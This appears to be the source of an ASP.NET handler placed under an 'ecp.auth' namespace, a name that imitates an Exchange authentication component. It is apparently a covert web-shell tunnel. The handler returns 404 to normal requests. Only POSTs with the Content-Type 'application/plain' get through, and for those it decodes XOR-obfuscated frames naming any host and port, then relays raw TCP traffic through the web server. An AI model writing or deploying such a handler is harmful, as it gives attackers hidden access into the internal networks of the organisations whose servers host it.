<%@ WebHandler Language="C#" Class="ecp.auth.StreamProxy" %>

namespace ecp.auth
{
    using System;
    using System.IO;
    using System.Net;
    using System.Net.Sockets;
    using System.Threading;
    using System.Web;

    /// <summary>Full-duplex streaming relay (chunked).</summary>
    public class StreamProxy : IHttpHandler
    {
        public bool IsReusable { get { return false; } }

        static byte[] Frame(byte t, byte[] d)
        {
            byte[] o = new byte[5 + d.Length];
            int n = d.Length;
            o[0] = (byte)(n >> 24); o[1] = (byte)(n >> 16); o[2] = (byte)(n >> 8); o[3] = (byte)n; o[4] = t;
            Buffer.BlockCopy(d, 0, o, 5, n);
            for (int i = 5; i < o.Length; i++) o[i] ^= 0x5a;
            return o;
        }

        static byte[] ReadFrame(Stream s, out byte t)
        {
            byte[] h = new byte[5]; Fill(s, h);
            int n = (h[0] << 24) | (h[1] << 16) | (h[2] << 8) | h[3];
            t = h[4];
            byte[] d = new byte[n]; Fill(s, d);
            for (int i = 0; i < n; i++) d[i] ^= 0x5a;
            return d;
        }

        static void Fill(Stream s, byte[] b) { int o = 0; while (o < b.Length) { int r = s.Read(b, o, b.Length - o); if (r <= 0) throw new EndOfStreamException(); o += r; } }

        public void ProcessRequest(HttpContext context)
        {
            HttpRequest req = context.Request;
            HttpResponse rsp = context.Response;
            if (req.Headers["Content-Type"] != "application/plain" || req.HttpMethod != "POST")
            {
                rsp.StatusCode = 404; return;
            }
            rsp.BufferOutput = false;
            rsp.ContentType = "application/octet-stream";
            rsp.AddHeader("X-Accel-Buffering", "no");

            Stream input = req.GetBufferlessInputStream(true);
            byte t;
            byte[] first = ReadFrame(input, out t);              // "host:port"
            string[] hp = System.Text.Encoding.ASCII.GetString(first).Split(':');
            TcpClient tc = new TcpClient();
            tc.Connect(hp[0], int.Parse(hp[1]));
            NetworkStream ns = tc.GetStream();
            rsp.OutputStream.Write(Frame(0x01, new byte[] { 0 }), 0, 6); rsp.Flush();

            Thread up = new Thread(() =>
            {
                try { while (true) { byte k; byte[] d = ReadFrame(input, out k); if (k == 0x02) break; ns.Write(d, 0, d.Length); } }
                catch { }
                finally { try { tc.Close(); } catch { } }
            });
            up.IsBackground = true; up.Start();

            byte[] buf = new byte[32768];
            try
            {
                int r;
                while ((r = ns.Read(buf, 0, buf.Length)) > 0)
                {
                    byte[] c = new byte[r]; Buffer.BlockCopy(buf, 0, c, 0, r);
                    byte[] f = Frame(0x00, c);
                    rsp.OutputStream.Write(f, 0, f.Length);
                    rsp.Flush();
                }
            }
            catch { }
            finally { tc.Close(); }
        }
    }
}
